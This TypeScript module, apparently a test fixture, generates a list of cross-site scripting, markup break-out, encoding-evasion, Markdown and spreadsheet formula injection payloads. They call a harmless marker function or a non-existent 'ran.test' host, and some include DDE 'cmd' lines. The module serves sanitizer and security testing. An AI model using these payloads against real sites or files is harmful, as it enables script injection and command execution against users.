/**
 * The effects a payload would have if interpreted as more than text: calling a function or
 * requesting a URL.
 */
interface Deed {
  /** JavaScript without quotes or spaces. */
  run: string;
  /** A URL that nothing else requests. */
  address: string;
}

/** The host of the URLs, which does not exist. */
export const FOREIGN_HOST = 'ran.test';

/** Encodes each character as a numeric entity. */
const entities = (text: string) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join('');
/** Encodes each character as a JavaScript escape. */
const escapes = (text: string) =>
  [...text].map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
const base64 = (text: string) => Buffer.from(text).toString('base64');
/** The same letters as lookalikes in Unicode. */
const fullWidth = (text: string) =>
  text.replace(/[!-~]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0));

const scripts: ((deed: Deed) => string)[] = [
  ({ run }) => `<script>${run}</script>`,
  ({ run }) => `<ScRiPt>${run}</sCrIpT>`,
  ({ run }) => `<script >${run}</script\n>`,
  ({ run }) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  ({ run }) => `<<script>${run};//<</script>`,
  ({ run }) => `<script/x>${run}</script>`,
  ({ address }) => `<script src=${address}></script>`,
  ({ address }) => `<script src=${address.replace('https:', '')}></script>`,
  ({ run }) => `<script type=module>${run}</script>`,
  ({ address }) => `<script>import('${address}')</script>`,
];

const handlers: ((deed: Deed) => string)[] = [
  ({ run }) => `<img src=x onerror=${run}>`,
  ({ run }) => `<img/src=x/onerror=${run}>`,
  ({ run }) => `<IMG SRC=x OnErRoR="${run}">`,
  ({ run }) => `<img src=x onerror=${entities(run)}>`,
  ({ run }) => `<body onload=${run}>`,
  ({ run }) => `<input autofocus onfocus=${run}>`,
  ({ run }) => `<details open ontoggle=${run}>`,
  ({ run }) => `<video><source onerror=${run}></video>`,
  ({ run }) => `<audio src=x onerror=${run}>`,
  ({ run }) => `<marquee onstart=${run}>`,
  ({ run }) => `<p onpointerenter=${run} style=position:fixed;inset:0>`,
  ({ run }) => `<b onanimationstart=${run} style=animation:spin>`,
  ({ run }) => `<iframe srcdoc="<script>parent.${run}</script>">`,
  ({ run }) => `<template><img src=x onerror=${run}></template>`,
  ({ run }) => `<xss id=x tabindex=1 autofocus onfocus=${run}>`,
];

const drawings: ((deed: Deed) => string)[] = [
  ({ run }) => `<svg onload=${run}>`,
  ({ run }) => `<svg><script>${run}</script></svg>`,
  ({ run }) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  ({ run }) => `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  ({ address }) => `<svg><use href="${address}#x"></use></svg>`,
  ({ address }) => `<svg><image href=${address}></image></svg>`,
  ({ run }) => `<math><maction actiontype=statusline xlink:href="javascript:${run}">x</maction>`,
  ({ run }) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
];

const addresses: ((deed: Deed) => string)[] = [
  ({ run }) => `javascript:${run}`,
  ({ run }) => `JaVaScRiPt:${run}`,
  ({ run }) => `java\tscript:${run}`,
  ({ run }) => `\u0001javascript:${run}`,
  ({ run }) => `javascript://%0a${run}`,
  ({ run }) => `<a href="javascript:${run}">x</a>`,
  ({ run }) => `<a href=javascript&colon;${run}>x</a>`,
  ({ run }) => `data:text/html,<script>${run}</script>`,
  ({ run }) => `data:text/html;base64,${base64(`<script>${run}</script>`)}`,
  ({ run }) => `vbscript:${run}`,
  ({ run }) => `<form action="javascript:${run}"><button>x</button></form>`,
  ({ address }) => `<meta http-equiv=refresh content="0;url=${address}">`,
  ({ address }) => `<base href=${address}>`,
  ({ address }) => `<link rel=stylesheet href=${address}>`,
  ({ run }) => `<object data="javascript:${run}"></object>`,
  ({ address }) => `<embed src=${address}>`,
  ({ address }) => `//${address.split('//')[1]}`,
];

const breakOuts: ((deed: Deed) => string)[] = [
  ({ run }) => `"><script>${run}</script>`,
  ({ run }) => `'><img src=x onerror=${run}>`,
  ({ run }) => `" onmouseover=${run} x="`,
  ({ run }) => `' autofocus onfocus=${run} x='`,
  ({ run }) => `\`-${run}-\``,
  ({ run }) => `';${run};//`,
  ({ run }) => `\\";${run};//`,
  ({ run }) => `\${${run}}`,
  ({ run }) => `{{constructor.constructor('${run}')()}}`,
  ({ run }) => `<%= ${run}%>`,
  ({ run }) => `--><script>${run}</script><!--`,
  ({ run }) => `]]><script>${run}</script>`,
  ({ run }) => `</textarea><script>${run}</script>`,
  ({ run }) => `</title><script>${run}</script>`,
  ({ run }) => `</script><script>${run}</script>`,
  ({ run }) => `</style><script>${run}</script>`,
  ({ run }) => `</noscript><img src=x onerror=${run}>`,
  ({ address }) => `x;background:url(${address})`,
  ({ address }) => `}*{background:url(${address})}`,
  ({ address }) => `<style>@import '${address}'</style>`,
  ({ run }) => `{"__html":"<img src=x onerror=${run}>"}`,
  ({ run }) => `__proto__[srcdoc]=<script>${run}</script>`,
];

const mutations: ((deed: Deed) => string)[] = [
  ({ run }) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  ({ run }) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  ({ run }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  ({ run }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  ({ run }) => `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  ({ run }) =>
    `<select><template><style><!--</style><a rel="--></style></template><img src=x onerror=${run}>">`,
];

const encodings: ((deed: Deed) => string)[] = [
  ({ run }) => `&lt;script&gt;${run}&lt;/script&gt;`,
  ({ run }) => `%3Cscript%3E${run}%3C/script%3E`,
  ({ run }) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  ({ run }) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  ({ run }) => fullWidth(`<script>${run}</script>`),
  ({ run }) => `<img src=x onerror=${escapes('ran')}${run.slice(3)}>`,
  ({ run }) => `<script>\u2028${run}\u2029</script>`,
  ({ run }) => `\u2028;${run};//`,
  ({ run }) => `<\u200bscript>${run}</script>`,
  ({ run }) => `\u202e>tpircs/<${run}>tpircs<`,
  ({ run }) => `\ufeff<script>${run}</script>`,
  ({ run }) => `<ſcript>${run}</ſcript>`,
];

const documents: ((deed: Deed) => string)[] = [
  ({ run }) => `[tap](javascript:${run})`,
  ({ run }) => `![x](x"onerror="${run})`,
  ({ address }) => `![x](${address})`,
  ({ run }) => `<javascript:${run}>`,
  ({ run }) => `[x]: javascript:${run}`,
  ({ run }) => `https://posedown.test/"onclick="${run}`,
  ({ run }) => `https://posedown.test/<script>${run}</script>`,
  ({ address }) => `=HYPERLINK("${address}","x")`,
  ({ address }) => `=WEBSERVICE("${address}")`,
  ({ address }) => `+IMPORTXML("${address}","//a")`,
  () => `-2+3+cmd|' /C calc'!A0`,
  () => `@SUM(1+9)*cmd|' /C calc'!A0`,
  () => `\t=1+1`,
  () => `",=1+1,"`,
];

/** Known injection payloads. Each has its own effect. */
export const PAYLOADS: readonly string[] = [
  ...scripts,
  ...handlers,
  ...drawings,
  ...addresses,
  ...breakOuts,
  ...mutations,
  ...encodings,
  ...documents,
].map((write, number) =>
  write({ run: `ran(${number})`, address: `https://${FOREIGN_HOST}/${number}` }),
);
